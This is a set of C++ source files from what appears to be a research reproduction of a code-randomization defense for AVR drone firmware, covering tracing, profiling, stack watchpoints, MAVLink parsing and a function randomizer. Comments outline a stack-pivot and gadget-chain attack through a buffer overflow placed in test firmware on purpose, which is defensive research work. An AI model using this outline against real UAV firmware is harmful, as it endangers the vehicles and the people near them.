inline constexpr std::uint32_t kDefaultMask =
    mask_of(EventKind::Call) | mask_of(EventKind::Ret) |
    mask_of(EventKind::Irq) | mask_of(EventKind::SpChange) |
    mask_of(EventKind::Fault) | mask_of(EventKind::UartTx) |
    mask_of(EventKind::UartRx) | mask_of(EventKind::UartUnderrun) |
    mask_of(EventKind::WatchHit);

inline constexpr std::uint32_t kAllEvents = 0xFFFFFFFFu;

/// One trace record. `a`/`b` are kind-specific (see EventKind); `op` is the
/// avr::Op only for Retire events.
struct Event {
  EventKind kind = EventKind::Retire;
  std::uint8_t op = 0;
  std::uint64_t cycle = 0;
  std::uint32_t pc_words = 0;
  std::uint32_t a = 0;
  std::uint32_t b = 0;
};

class ExecutionTrace : public avr::Tracer {
 public:
  /// `capacity` must be non-zero; `mask` selects which EventKinds to keep.
  explicit ExecutionTrace(std::size_t capacity = std::size_t{1} << 16,
                          std::uint32_t mask = kDefaultMask);

  std::uint32_t mask() const { return mask_; }
  void set_mask(std::uint32_t mask) { mask_ = mask; }
  std::size_t capacity() const { return buffer_.size(); }

  /// Appends an event, evicting the oldest when full. Honors the mask.
  void record(const Event& event);

  /// Events currently held (<= capacity), oldest first via at().
  std::size_t size() const { return count_; }
  const Event& at(std::size_t index) const;

  std::uint64_t total_recorded() const { return total_; }
  std::uint64_t dropped() const { return total_ - count_; }
  void clear();

  /// One JSON object per line, oldest event first; fields are named per
  /// kind so downstream tooling never touches the raw a/b slots.
  std::string jsonl() const;
  /// Flat CSV (kind,cycle,pc_words,op,a,b) with a header row.
  std::string csv() const;

  // --- Tracer hooks ----------------------------------------------------------
  void on_retire(const avr::Cpu& cpu, std::uint32_t pc_words,
                 const avr::Instr& instr, std::uint32_t cycles) override;
  void on_call(const avr::Cpu& cpu, std::uint32_t from_words,
               std::uint32_t to_words, std::uint32_t ret_words) override;
  void on_ret(const avr::Cpu& cpu, std::uint32_t from_words,
              std::uint32_t to_words, std::uint32_t raw_words,
              bool reti) override;
  void on_irq(const avr::Cpu& cpu, std::uint8_t slot,
              std::uint32_t from_words) override;
  void on_sp_change(const avr::Cpu& cpu, std::uint16_t old_sp,
                    std::uint16_t new_sp) override;
  void on_load(const avr::Cpu& cpu, std::uint32_t addr,
               std::uint8_t value) override;
  void on_store(const avr::Cpu& cpu, std::uint32_t addr,
                std::uint8_t value) override;
  void on_fault(const avr::Cpu& cpu, const avr::FaultInfo& info) override;

 private:
  std::vector<Event> buffer_;
  std::size_t head_ = 0;   ///< index of the oldest event
  std::size_t count_ = 0;
  std::uint64_t total_ = 0;
  std::uint32_t mask_;
};

}  // namespace mavr::trace
