// Per-function cycle/call-count profiler keyed off the firmware symbol
// table. Attaches as a Tracer; every retired instruction's cycles are
// attributed to the function whose flash range contains it, so a run ends
// with the same flat profile a sampling profiler would converge to —
// except exact.
#pragma once

#include <cstdint>
#include <string>
#include <string_view>
#include <vector>

#include "avr/cpu.hpp"
#include "toolchain/image.hpp"

namespace mavr::trace {

class Profiler : public avr::Tracer {
 public:
  struct FunctionStats {
    std::string name;
    std::uint32_t byte_addr = 0;  ///< flash byte address of the function
    std::uint32_t size = 0;       ///< bytes
    std::uint64_t cycles = 0;
    std::uint64_t instructions = 0;
    std::uint64_t calls = 0;  ///< CALL-family entries targeting this function
  };

  /// Copies the function symbol ranges out of `image`; the image itself
  /// need not outlive the profiler.
  explicit Profiler(const toolchain::Image& image);

  /// All functions that executed at least one instruction, heaviest (by
  /// cycles) first.
  std::vector<FunctionStats> by_cycles() const;

  /// Stats for one function, or nullptr when unknown / never executed.
  const FunctionStats* lookup(std::string_view name) const;

  /// Cycles retired at flash addresses outside every known function
  /// (vector-table stubs, gadget-chain excursions past symbol ranges).
  std::uint64_t unattributed_cycles() const { return unattributed_cycles_; }
  std::uint64_t total_cycles() const { return total_cycles_; }

  /// Human-readable table of the `top_n` heaviest functions.
  std::string report(std::size_t top_n = 20) const;

  // --- Tracer hooks ----------------------------------------------------------
  void on_retire(const avr::Cpu& cpu, std::uint32_t pc_words,
                 const avr::Instr& instr, std::uint32_t cycles) override;
  void on_call(const avr::Cpu& cpu, std::uint32_t from_words,
               std::uint32_t to_words, std::uint32_t ret_words) override;

 private:
  /// Index into stats_ for the function containing `byte_addr`, or -1.
  int index_of(std::uint32_t byte_addr) const;

  struct Range {
    std::uint32_t begin = 0;  ///< flash byte address, inclusive
    std::uint32_t end = 0;    ///< exclusive
  };

  std::vector<Range> ranges_;  ///< ascending, parallel to stats_
  std::vector<FunctionStats> stats_;
  mutable int last_index_ = -1;  ///< cache: consecutive pcs share a function
  std::uint64_t unattributed_cycles_ = 0;
  std::uint64_t total_cycles_ = 0;
};

}  // namespace mavr::trace
