#include "trace/watchpoints.hpp"

#include "support/error.hpp"
#include "trace/events.hpp"

namespace mavr::trace {

int Watchpoints::watch_sp(std::uint16_t lo, std::uint16_t hi,
                          SpWatchMode mode, std::string label) {
  MAVR_REQUIRE(lo <= hi, "sp watch range is inverted");
  const int id = next_id_++;
  sp_watches_.push_back(SpWatch{
      .id = id, .lo = lo, .hi = hi, .mode = mode, .label = std::move(label)});
  return id;
}

int Watchpoints::watch_write(std::uint32_t lo, std::uint32_t hi,
                             std::string label) {
  MAVR_REQUIRE(lo <= hi, "write watch range is inverted");
  const int id = next_id_++;
  range_watches_.push_back(RangeWatch{
      .id = id, .lo = lo, .hi = hi, .on_write = true,
      .label = std::move(label)});
  return id;
}

int Watchpoints::watch_read(std::uint32_t lo, std::uint32_t hi,
                            std::string label) {
  MAVR_REQUIRE(lo <= hi, "read watch range is inverted");
  const int id = next_id_++;
  range_watches_.push_back(RangeWatch{
      .id = id, .lo = lo, .hi = hi, .on_write = false,
      .label = std::move(label)});
  return id;
}

std::uint64_t Watchpoints::hit_count(int watch_id) const {
  std::uint64_t n = 0;
  for (const WatchHit& h : hits_) {
    if (h.watch_id == watch_id) ++n;
  }
  return n;
}

void Watchpoints::rearm() {
  for (SpWatch& w : sp_watches_) w.armed = true;
}

void Watchpoints::emit(const avr::Cpu& cpu, int id, const std::string& label,
                       std::uint32_t value) {
  hits_.push_back(WatchHit{.watch_id = id,
                           .label = label,
                           .cycle = cpu.cycles(),
                           .pc_words = cpu.pc(),
                           .value = value});
  if (sink_ != nullptr) {
    sink_->record(Event{.kind = EventKind::WatchHit,
                        .op = 0,
                        .cycle = cpu.cycles(),
                        .pc_words = cpu.pc(),
                        .a = static_cast<std::uint32_t>(id),
                        .b = value});
  }
}

void Watchpoints::on_sp_change(const avr::Cpu& cpu, std::uint16_t /*old_sp*/,
                               std::uint16_t new_sp) {
  if (new_sp < sp_min_) sp_min_ = new_sp;
  if (new_sp > sp_max_) sp_max_ = new_sp;
  for (SpWatch& w : sp_watches_) {
    const bool inside = new_sp >= w.lo && new_sp <= w.hi;
    const bool violating = (w.mode == SpWatchMode::Inside) ? inside : !inside;
    if (violating) {
      if (w.armed) {
        w.armed = false;
        emit(cpu, w.id, w.label, new_sp);
      }
    } else {
      w.armed = true;
    }
  }
}

void Watchpoints::on_load(const avr::Cpu& cpu, std::uint32_t addr,
                          std::uint8_t /*value*/) {
  for (const RangeWatch& w : range_watches_) {
    if (!w.on_write && addr >= w.lo && addr <= w.hi) {
      emit(cpu, w.id, w.label, addr);
    }
  }
}

void Watchpoints::on_store(const avr::Cpu& cpu, std::uint32_t addr,
                           std::uint8_t /*value*/) {
  for (const RangeWatch& w : range_watches_) {
    if (w.on_write && addr >= w.lo && addr <= w.hi) {
      emit(cpu, w.id, w.label, addr);
    }
  }
}

}  // namespace mavr::trace
