#include "trace/profiler.hpp"

#include <algorithm>
#include <cstdio>
#include <sstream>

#include "support/error.hpp"

namespace mavr::trace {

Profiler::Profiler(const toolchain::Image& image) {
  for (const toolchain::Symbol& fn : image.functions()) {
    if (fn.size == 0) continue;
    ranges_.push_back(Range{.begin = fn.addr, .end = fn.addr + fn.size});
    stats_.push_back(FunctionStats{
        .name = fn.name, .byte_addr = fn.addr, .size = fn.size});
  }
  // Image::functions() returns ascending addresses; keep the invariant
  // explicit for the binary search below.
  MAVR_CHECK(std::is_sorted(ranges_.begin(), ranges_.end(),
                            [](const Range& a, const Range& b) {
                              return a.begin < b.begin;
                            }),
             "function symbols not sorted by address");
}

int Profiler::index_of(std::uint32_t byte_addr) const {
  if (last_index_ >= 0) {
    const Range& r = ranges_[static_cast<std::size_t>(last_index_)];
    if (byte_addr >= r.begin && byte_addr < r.end) return last_index_;
  }
  auto it = std::upper_bound(
      ranges_.begin(), ranges_.end(), byte_addr,
      [](std::uint32_t addr, const Range& r) { return addr < r.begin; });
  if (it == ranges_.begin()) return -1;
  --it;
  if (byte_addr >= it->end) return -1;
  last_index_ = static_cast<int>(it - ranges_.begin());
  return last_index_;
}

void Profiler::on_retire(const avr::Cpu& /*cpu*/, std::uint32_t pc_words,
                         const avr::Instr& /*instr*/, std::uint32_t cycles) {
  total_cycles_ += cycles;
  const int idx = index_of(pc_words * 2);
  if (idx < 0) {
    unattributed_cycles_ += cycles;
    return;
  }
  FunctionStats& s = stats_[static_cast<std::size_t>(idx)];
  s.cycles += cycles;
  ++s.instructions;
}

void Profiler::on_call(const avr::Cpu& /*cpu*/, std::uint32_t /*from_words*/,
                       std::uint32_t to_words, std::uint32_t /*ret_words*/) {
  const int idx = index_of(to_words * 2);
  if (idx >= 0) ++stats_[static_cast<std::size_t>(idx)].calls;
}

std::vector<Profiler::FunctionStats> Profiler::by_cycles() const {
  std::vector<FunctionStats> out;
  for (const FunctionStats& s : stats_) {
    if (s.instructions > 0 || s.calls > 0) out.push_back(s);
  }
  std::sort(out.begin(), out.end(),
            [](const FunctionStats& a, const FunctionStats& b) {
              if (a.cycles != b.cycles) return a.cycles > b.cycles;
              return a.byte_addr < b.byte_addr;
            });
  return out;
}

const Profiler::FunctionStats* Profiler::lookup(std::string_view name) const {
  for (const FunctionStats& s : stats_) {
    if (s.name == name) return (s.instructions || s.calls) ? &s : nullptr;
  }
  return nullptr;
}

std::string Profiler::report(std::size_t top_n) const {
  std::ostringstream os;
  char line[160];
  std::snprintf(line, sizeof line, "%-28s %10s %12s %12s %7s\n", "function",
                "calls", "cycles", "instrs", "cyc%");
  os << line;
  const double total =
      total_cycles_ > 0 ? static_cast<double>(total_cycles_) : 1.0;
  std::size_t shown = 0;
  for (const FunctionStats& s : by_cycles()) {
    if (shown++ == top_n) break;
    std::snprintf(line, sizeof line, "%-28s %10llu %12llu %12llu %6.2f%%\n",
                  s.name.c_str(),
                  static_cast<unsigned long long>(s.calls),
                  static_cast<unsigned long long>(s.cycles),
                  static_cast<unsigned long long>(s.instructions),
                  100.0 * static_cast<double>(s.cycles) / total);
    os << line;
  }
  std::snprintf(line, sizeof line, "%-28s %10s %12llu %12s %6.2f%%\n",
                "(outside known functions)", "",
                static_cast<unsigned long long>(unattributed_cycles_), "",
                100.0 * static_cast<double>(unattributed_cycles_) / total);
  os << line;
  return os.str();
}

}  // namespace mavr::trace
