// Configurable watchpoints over the traced execution: stack-pointer
// discipline watches and address-range read/write watches.
//
// SP watches come in two modes because of how the paper's V2 attack is
// built (§IV-C). The stk_move pivot loads SP with `buffer_addr - 1`, which
// is numerically *identical* to the bottom of the legitimate handler frame
// — so "SP dropped below the frame floor" fires for the benign prologue
// too and cannot isolate the pivot. What no legitimate execution ever does
// is run with SP *inside* a packet payload buffer: the first gadget-chain
// pop after the pivot moves SP into the buffer, and that is the exactly-
// once signal.
//
//  * SpWatchMode::Outside — fires when SP leaves [lo, hi]: classic stack
//    floor/ceiling discipline (catches V3's staging-area pivot, deep
//    recursion, stack exhaustion).
//  * SpWatchMode::Inside — fires when SP enters the forbidden zone
//    [lo, hi], e.g. an attacker-reachable packet buffer (catches V2).
//
// All watches are edge-triggered: one hit per excursion, re-armed when the
// condition clears, so a continuous violation episode reports once.
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "avr/cpu.hpp"

namespace mavr::trace {

class ExecutionTrace;

enum class SpWatchMode {
  Outside,  ///< violation: SP outside [lo, hi]
  Inside,   ///< violation: SP inside [lo, hi]
};

struct WatchHit {
  int watch_id = 0;
  std::string label;
  std::uint64_t cycle = 0;
  std::uint32_t pc_words = 0;  ///< instruction that caused the hit
  std::uint32_t value = 0;     ///< offending SP value or data address
};

class Watchpoints : public avr::Tracer {
 public:
  /// Registers an SP watch; returns its id. [lo, hi] is inclusive.
  int watch_sp(std::uint16_t lo, std::uint16_t hi, SpWatchMode mode,
               std::string label = {});
  /// Data-space store / load watch on [lo, hi] (inclusive). Level-
  /// triggered per access: every matching access is a hit.
  int watch_write(std::uint32_t lo, std::uint32_t hi, std::string label = {});
  int watch_read(std::uint32_t lo, std::uint32_t hi, std::string label = {});

  const std::vector<WatchHit>& hits() const { return hits_; }
  std::uint64_t hit_count(int watch_id) const;
  void clear_hits() { hits_.clear(); }

  /// Re-arms every SP watch (e.g. after inspecting a hit mid-run).
  void rearm();

  /// When set, every hit is also recorded as a WatchHit event in `sink`.
  void set_sink(ExecutionTrace* sink) { sink_ = sink; }

  /// Low/high watermark of SP observed since attach — the empirical basis
  /// for choosing watch bounds.
  std::uint16_t sp_min() const { return sp_min_; }
  std::uint16_t sp_max() const { return sp_max_; }

  // --- Tracer hooks ----------------------------------------------------------
  void on_sp_change(const avr::Cpu& cpu, std::uint16_t old_sp,
                    std::uint16_t new_sp) override;
  void on_load(const avr::Cpu& cpu, std::uint32_t addr,
               std::uint8_t value) override;
  void on_store(const avr::Cpu& cpu, std::uint32_t addr,
                std::uint8_t value) override;

 private:
  struct SpWatch {
    int id;
    std::uint16_t lo, hi;
    SpWatchMode mode;
    std::string label;
    bool armed = true;
  };
  struct RangeWatch {
    int id;
    std::uint32_t lo, hi;
    bool on_write;
    std::string label;
  };

  void emit(const avr::Cpu& cpu, int id, const std::string& label,
            std::uint32_t value);

  std::vector<SpWatch> sp_watches_;
  std::vector<RangeWatch> range_watches_;
  std::vector<WatchHit> hits_;
  ExecutionTrace* sink_ = nullptr;
  int next_id_ = 1;
  std::uint16_t sp_min_ = 0xFFFF;
  std::uint16_t sp_max_ = 0;
};

}  // namespace mavr::trace
