#include "trace/session.hpp"

namespace mavr::trace {

Session::Session() : Session(Options{}) {}

Session::Session(const Options& options)
    : trace_(options.trace_capacity, options.trace_mask) {
  mux_.add(&trace_);
  mux_.add(&watchpoints_);
  watchpoints_.set_sink(&trace_);
}

Session::Session(const toolchain::Image& image)
    : Session(image, Options{}) {}

Session::Session(const toolchain::Image& image, const Options& options)
    : Session(options) {
  profiler_.emplace(image);
  mux_.add(&*profiler_);
}

Session::~Session() { detach(); }

void Session::attach(avr::Cpu& cpu, avr::Uart* uart) {
  detach();
  cpu_ = &cpu;
  cpu_->set_tracer(&mux_);
  if (uart != nullptr) {
    uart_ = uart;
    uart_->set_tap(this);
  }
}

void Session::detach() {
  if (cpu_ != nullptr && cpu_->tracer() == &mux_) cpu_->set_tracer(nullptr);
  cpu_ = nullptr;
  if (uart_ != nullptr && uart_->tap() == this) uart_->set_tap(nullptr);
  uart_ = nullptr;
}

void Session::on_tx(std::uint64_t cycle, std::uint8_t byte) {
  trace_.record(Event{.kind = EventKind::UartTx,
                      .op = 0,
                      .cycle = cycle,
                      .pc_words = 0,
                      .a = byte,
                      .b = 0});
  if (auto packet = tx_parser_.push(byte)) {
    packets_.push_back(PacketRecord{
        .cycle = cycle, .to_host = true, .packet = std::move(*packet)});
  }
}

void Session::on_rx(std::uint64_t cycle, std::uint8_t byte) {
  trace_.record(Event{.kind = EventKind::UartRx,
                      .op = 0,
                      .cycle = cycle,
                      .pc_words = 0,
                      .a = byte,
                      .b = 0});
  if (auto packet = rx_parser_.push(byte)) {
    packets_.push_back(PacketRecord{
        .cycle = cycle, .to_host = false, .packet = std::move(*packet)});
  }
}

void Session::on_rx_underrun(std::uint64_t cycle) {
  ++uart_underruns_;
  trace_.record(Event{.kind = EventKind::UartUnderrun,
                      .op = 0,
                      .cycle = cycle,
                      .pc_words = 0,
                      .a = 0,
                      .b = 0});
}

}  // namespace mavr::trace
