// MAVLink (Micro Air Vehicle Link) protocol — paper §II-C, Fig. 2.
//
// Packet layout follows the paper's figure exactly:
//
//   byte 0   magic                  (0xFE)
//   byte 1   payload length
//   byte 2   system id of sender
//   byte 3   packet sequence number
//   byte 4   component id of sender
//   byte 5   message id
//   bytes    payload (up to 255 bytes)
//   2 bytes  CRC-16/X.25 checksum over bytes 1..end-of-payload
//
// Minimum packet: 6-byte header + 9-byte payload + 2-byte CRC = 17 bytes
// (the paper's stated minimum; HEARTBEAT has a 9-byte payload).
//
// Simplification vs. the real protocol: no per-message CRC_EXTRA seed —
// the checksum is plain X.25 over header-after-magic plus payload. This
// preserves everything the attack path depends on (framing, the length
// byte that the vulnerable firmware fails to validate, integrity check).
#pragma once

#include <cstdint>
#include <optional>
#include <span>
#include <vector>

#include "support/bytes.hpp"

namespace mavr::mavlink {

inline constexpr std::uint8_t kMagic = 0xFE;
inline constexpr std::size_t kHeaderLen = 6;
inline constexpr std::size_t kChecksumLen = 2;
inline constexpr std::size_t kMaxPayload = 255;

/// Standard message ids used by the reproduction.
enum class MsgId : std::uint8_t {
  Heartbeat = 0,
  ParamSet = 23,
  RawImu = 27,
  Attitude = 30,
  MissionItem = 39,
  CommandLong = 76,
  Statustext = 253,
};

/// One MAVLink packet (decoded form).
struct Packet {
  std::uint8_t sysid = 0;
  std::uint8_t seq = 0;
  std::uint8_t compid = 0;
  std::uint8_t msgid = 0;
  support::Bytes payload;

  MsgId id() const { return static_cast<MsgId>(msgid); }
};

/// Serializes a packet. Payloads up to kMaxPayload (255) bytes are
/// permitted — the attacker's oversized-packet capability from §IV-B is a
/// payload longer than the *handler's buffer* (tens of bytes), which the
/// wire format carries fine. Beyond 255 the one-byte length field cannot
/// represent the payload at all; encoding used to silently truncate the
/// length byte while still writing every payload byte, producing an
/// undecodable stream. Now throws support::PreconditionError instead.
support::Bytes encode(const Packet& packet);

/// Computes the checksum the same way encode() does. Same kMaxPayload
/// precondition as encode().
std::uint16_t packet_crc(const Packet& packet);

/// Streaming parser: feed bytes, poll packets. Malformed input (bad magic,
/// bad checksum) is dropped and counted, as a ground station would.
class Parser {
 public:
  /// Feeds one byte; returns a completed packet when it finishes one.
  std::optional<Packet> push(std::uint8_t byte);

  /// Feeds many bytes, collecting every completed packet.
  std::vector<Packet> push(std::span<const std::uint8_t> bytes);

  std::uint64_t crc_errors() const { return crc_errors_; }
  std::uint64_t dropped_bytes() const { return dropped_bytes_; }

 private:
  enum class State { Magic, Length, Sysid, Seq, Compid, Msgid, Payload, Crc };
  State state_ = State::Magic;
  Packet current_;
  std::uint8_t want_payload_ = 0;
  support::Bytes crc_bytes_;
  std::uint64_t crc_errors_ = 0;
  std::uint64_t dropped_bytes_ = 0;
};

// --- Typed messages ---------------------------------------------------------

/// HEARTBEAT (id 0, 9-byte payload).
struct Heartbeat {
  std::uint8_t type = 1;          // fixed wing
  std::uint8_t autopilot = 3;     // ArduPilot
  std::uint8_t base_mode = 0;
  std::uint32_t custom_mode = 0;
  std::uint8_t system_status = 4; // active
  std::uint8_t mavlink_version = 3;

  Packet to_packet(std::uint8_t sysid, std::uint8_t seq) const;
  static Heartbeat from_packet(const Packet& packet);
};

/// PARAM_SET (id 23): the message whose handler carries the injected
/// buffer-overflow vulnerability in the test firmware (paper §IV-B).
struct ParamSet {
  char param_id[16] = {};
  float param_value = 0;
  std::uint8_t target_system = 1;
  std::uint8_t target_component = 1;

  Packet to_packet(std::uint8_t sysid, std::uint8_t seq) const;
  static ParamSet from_packet(const Packet& packet);
};

/// ATTITUDE (id 30): telemetry the UAV streams to the ground station; the
/// stealthy attack's success criterion is that this stream continues
/// uninterrupted while the sensor value changes.
struct Attitude {
  std::uint32_t time_boot_ms = 0;
  float roll = 0, pitch = 0, yaw = 0;
  float rollspeed = 0, pitchspeed = 0, yawspeed = 0;

  Packet to_packet(std::uint8_t sysid, std::uint8_t seq) const;
  static Attitude from_packet(const Packet& packet);
};

/// RAW_IMU (id 27, abridged to the three gyro axes the attack targets).
struct RawImu {
  std::int16_t xgyro = 0, ygyro = 0, zgyro = 0;
  std::int16_t xacc = 0, yacc = 0, zacc = 0;

  Packet to_packet(std::uint8_t sysid, std::uint8_t seq) const;
  static RawImu from_packet(const Packet& packet);
};

}  // namespace mavr::mavlink
