#include "mavlink/mavlink.hpp"

#include <cstring>

#include "support/crc.hpp"
#include "support/error.hpp"

namespace mavr::mavlink {

namespace {

std::uint16_t crc_over(std::uint8_t len, const Packet& p) {
  support::Crc16 crc;
  crc.update(len);
  crc.update(p.sysid);
  crc.update(p.seq);
  crc.update(p.compid);
  crc.update(p.msgid);
  crc.update(p.payload);
  return crc.value();
}

void put_float(support::ByteWriter& w, float v) {
  std::uint32_t bits;
  std::memcpy(&bits, &v, 4);
  w.u32_le(bits);
}

float get_float(support::ByteReader& r) {
  const std::uint32_t bits = r.u32_le();
  float v;
  std::memcpy(&v, &bits, 4);
  return v;
}

}  // namespace

std::uint16_t packet_crc(const Packet& packet) {
  MAVR_REQUIRE(packet.payload.size() <= kMaxPayload,
               "mavlink payload exceeds the 255-byte length field");
  return crc_over(static_cast<std::uint8_t>(packet.payload.size()), packet);
}

support::Bytes encode(const Packet& packet) {
  MAVR_REQUIRE(packet.payload.size() <= kMaxPayload,
               "mavlink payload exceeds the 255-byte length field");
  support::Bytes out;
  support::ByteWriter w(out);
  const std::uint8_t len = static_cast<std::uint8_t>(packet.payload.size());
  w.u8(kMagic);
  w.u8(len);
  w.u8(packet.sysid);
  w.u8(packet.seq);
  w.u8(packet.compid);
  w.u8(packet.msgid);
  w.bytes(packet.payload);
  w.u16_le(crc_over(len, packet));
  return out;
}

std::optional<Packet> Parser::push(std::uint8_t byte) {
  switch (state_) {
    case State::Magic:
      if (byte == kMagic) {
        current_ = Packet{};
        crc_bytes_.clear();
        state_ = State::Length;
      } else {
        ++dropped_bytes_;
      }
      return std::nullopt;
    case State::Length:
      want_payload_ = byte;
      state_ = State::Sysid;
      return std::nullopt;
    case State::Sysid:
      current_.sysid = byte;
      state_ = State::Seq;
      return std::nullopt;
    case State::Seq:
      current_.seq = byte;
      state_ = State::Compid;
      return std::nullopt;
    case State::Compid:
      current_.compid = byte;
      state_ = State::Msgid;
      return std::nullopt;
    case State::Msgid:
      current_.msgid = byte;
      state_ = (want_payload_ > 0) ? State::Payload : State::Crc;
      return std::nullopt;
    case State::Payload:
      current_.payload.push_back(byte);
      if (current_.payload.size() == want_payload_) state_ = State::Crc;
      return std::nullopt;
    case State::Crc:
      crc_bytes_.push_back(byte);
      if (crc_bytes_.size() < kChecksumLen) return std::nullopt;
      state_ = State::Magic;
      {
        const std::uint16_t received = static_cast<std::uint16_t>(
            crc_bytes_[0] | (crc_bytes_[1] << 8));
        if (received != crc_over(want_payload_, current_)) {
          ++crc_errors_;
          return std::nullopt;
        }
      }
      return current_;
  }
  return std::nullopt;
}

std::vector<Packet> Parser::push(std::span<const std::uint8_t> bytes) {
  std::vector<Packet> out;
  for (std::uint8_t b : bytes) {
    if (auto packet = push(b)) out.push_back(std::move(*packet));
  }
  return out;
}

// --- Typed messages ----------------------------------------------------------

Packet Heartbeat::to_packet(std::uint8_t sysid, std::uint8_t seq) const {
  Packet p;
  p.sysid = sysid;
  p.seq = seq;
  p.compid = 1;
  p.msgid = static_cast<std::uint8_t>(MsgId::Heartbeat);
  support::ByteWriter w(p.payload);
  w.u32_le(custom_mode);
  w.u8(type);
  w.u8(autopilot);
  w.u8(base_mode);
  w.u8(system_status);
  w.u8(mavlink_version);
  return p;
}

Heartbeat Heartbeat::from_packet(const Packet& packet) {
  MAVR_REQUIRE(packet.id() == MsgId::Heartbeat, "not a HEARTBEAT packet");
  support::ByteReader r(packet.payload);
  Heartbeat h;
  h.custom_mode = r.u32_le();
  h.type = r.u8();
  h.autopilot = r.u8();
  h.base_mode = r.u8();
  h.system_status = r.u8();
  h.mavlink_version = r.u8();
  return h;
}

Packet ParamSet::to_packet(std::uint8_t sysid, std::uint8_t seq) const {
  Packet p;
  p.sysid = sysid;
  p.seq = seq;
  p.compid = 1;
  p.msgid = static_cast<std::uint8_t>(MsgId::ParamSet);
  support::ByteWriter w(p.payload);
  put_float(w, param_value);
  w.u8(target_system);
  w.u8(target_component);
  w.bytes(std::span(reinterpret_cast<const std::uint8_t*>(param_id), 16));
  return p;
}

ParamSet ParamSet::from_packet(const Packet& packet) {
  MAVR_REQUIRE(packet.id() == MsgId::ParamSet, "not a PARAM_SET packet");
  support::ByteReader r(packet.payload);
  ParamSet s;
  s.param_value = get_float(r);
  s.target_system = r.u8();
  s.target_component = r.u8();
  const support::Bytes id = r.bytes(16);
  std::memcpy(s.param_id, id.data(), 16);
  return s;
}

Packet Attitude::to_packet(std::uint8_t sysid, std::uint8_t seq) const {
  Packet p;
  p.sysid = sysid;
  p.seq = seq;
  p.compid = 1;
  p.msgid = static_cast<std::uint8_t>(MsgId::Attitude);
  support::ByteWriter w(p.payload);
  w.u32_le(time_boot_ms);
  put_float(w, roll);
  put_float(w, pitch);
  put_float(w, yaw);
  put_float(w, rollspeed);
  put_float(w, pitchspeed);
  put_float(w, yawspeed);
  return p;
}

Attitude Attitude::from_packet(const Packet& packet) {
  MAVR_REQUIRE(packet.id() == MsgId::Attitude, "not an ATTITUDE packet");
  support::ByteReader r(packet.payload);
  Attitude a;
  a.time_boot_ms = r.u32_le();
  a.roll = get_float(r);
  a.pitch = get_float(r);
  a.yaw = get_float(r);
  a.rollspeed = get_float(r);
  a.pitchspeed = get_float(r);
  a.yawspeed = get_float(r);
  return a;
}

Packet RawImu::to_packet(std::uint8_t sysid, std::uint8_t seq) const {
  Packet p;
  p.sysid = sysid;
  p.seq = seq;
  p.compid = 1;
  p.msgid = static_cast<std::uint8_t>(MsgId::RawImu);
  support::ByteWriter w(p.payload);
  w.u16_le(static_cast<std::uint16_t>(xgyro));
  w.u16_le(static_cast<std::uint16_t>(ygyro));
  w.u16_le(static_cast<std::uint16_t>(zgyro));
  w.u16_le(static_cast<std::uint16_t>(xacc));
  w.u16_le(static_cast<std::uint16_t>(yacc));
  w.u16_le(static_cast<std::uint16_t>(zacc));
  return p;
}

RawImu RawImu::from_packet(const Packet& packet) {
  MAVR_REQUIRE(packet.id() == MsgId::RawImu, "not a RAW_IMU packet");
  support::ByteReader r(packet.payload);
  RawImu m;
  m.xgyro = static_cast<std::int16_t>(r.u16_le());
  m.ygyro = static_cast<std::int16_t>(r.u16_le());
  m.zgyro = static_cast<std::int16_t>(r.u16_le());
  m.xacc = static_cast<std::int16_t>(r.u16_le());
  m.yacc = static_cast<std::int16_t>(r.u16_le());
  m.zacc = static_cast<std::int16_t>(r.u16_le());
  return m;
}

}  // namespace mavr::mavlink
