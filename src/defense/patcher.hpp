// MAVR's function-block randomizer and reference patcher (paper §V-B,
// §VI-B3) — the core of the defense.
//
// Given the flat firmware image, the preprocessed symbol blob and a
// permutation, this module:
//  1. relocates every *movable* function block (the vector table stays at
//     address 0, the reset path is patched instead);
//  2. rewrites the absolute target of every CALL/JMP instruction, using
//     binary search over the old symbol addresses for targets that fall
//     *inside* a function (cross-jumped epilogue tails, the paper's
//     "trampolines for switch case statements");
//  3. rewrites every recorded function-pointer slot in the data-init
//     region (dispatch tables / vtable analogues);
//  4. refuses images whose build options violate MAVR's requirements:
//     relaxed short calls crossing function boundaries, or LDI-encoded
//     code pointers from -mcall-prologues (paper §VI-B1).
//
// The transformation preserves semantics exactly: tests replay the
// randomized firmware and require a bit-identical I/O trace.
#pragma once

#include <cstdint>
#include <span>
#include <vector>

#include "support/bytes.hpp"
#include "support/rng.hpp"
#include "toolchain/image.hpp"

namespace mavr::defense {

/// Outcome of one randomization pass.
struct RandomizeResult {
  support::Bytes image;  ///< same size as the input image

  /// New byte address of each blob function (parallel to blob order).
  std::vector<std::uint32_t> new_addrs;

  // Patch statistics (reported by benches and sanity-checked by tests).
  std::uint32_t moved_functions = 0;
  std::uint32_t patched_abs_jumps = 0;    ///< CALL/JMP retargeted
  std::uint32_t mid_function_targets = 0; ///< needed the binary search
  std::uint32_t patched_pointers = 0;     ///< data-section slots rewritten
};

/// Draws a permutation of the movable function blocks.
std::vector<std::size_t> draw_permutation(const toolchain::SymbolBlob& blob,
                                          support::Rng& rng);

/// Draws random inter-block padding gaps (even byte counts) filling the
/// image's reserved padding slack — the §VIII-B entropy extension the
/// paper discusses. Returns permutation-count+1 gap sizes summing to the
/// slack (all zero when the image reserves none).
std::vector<std::uint32_t> draw_gaps(const toolchain::SymbolBlob& blob,
                                     support::Rng& rng);

/// Applies `permutation` (over the movable blocks, in ascending-address
/// order) to the image, optionally inserting `gaps` (gaps[i] erased-flash
/// bytes before the i-th relocated block, gaps[n] after the last; must sum
/// to the image's reserved padding slack). Throws
/// support::PreconditionError when the image cannot be randomized safely
/// (see file comment).
RandomizeResult randomize_image(std::span<const std::uint8_t> image,
                                const toolchain::SymbolBlob& blob,
                                const std::vector<std::size_t>& permutation,
                                const std::vector<std::uint32_t>& gaps = {});

/// Convenience: draw + apply (with padding when the image reserves slack).
RandomizeResult randomize_image(std::span<const std::uint8_t> image,
                                const toolchain::SymbolBlob& blob,
                                support::Rng& rng);

/// Number of movable function blocks (the `n` of the paper's n! argument).
std::size_t movable_count(const toolchain::SymbolBlob& blob);

/// Bytes of padding slack the image reserves for gap randomization.
std::uint32_t padding_slack(const toolchain::SymbolBlob& blob);

/// Extra entropy (bits) the gap randomization adds: log2 of the number of
/// weak compositions of slack/2 two-byte units into n+1 gaps.
double padding_entropy_bits(std::size_t n_blocks, std::uint32_t slack_bytes);

}  // namespace mavr::defense
