#include "defense/bruteforce.hpp"

#include <cmath>

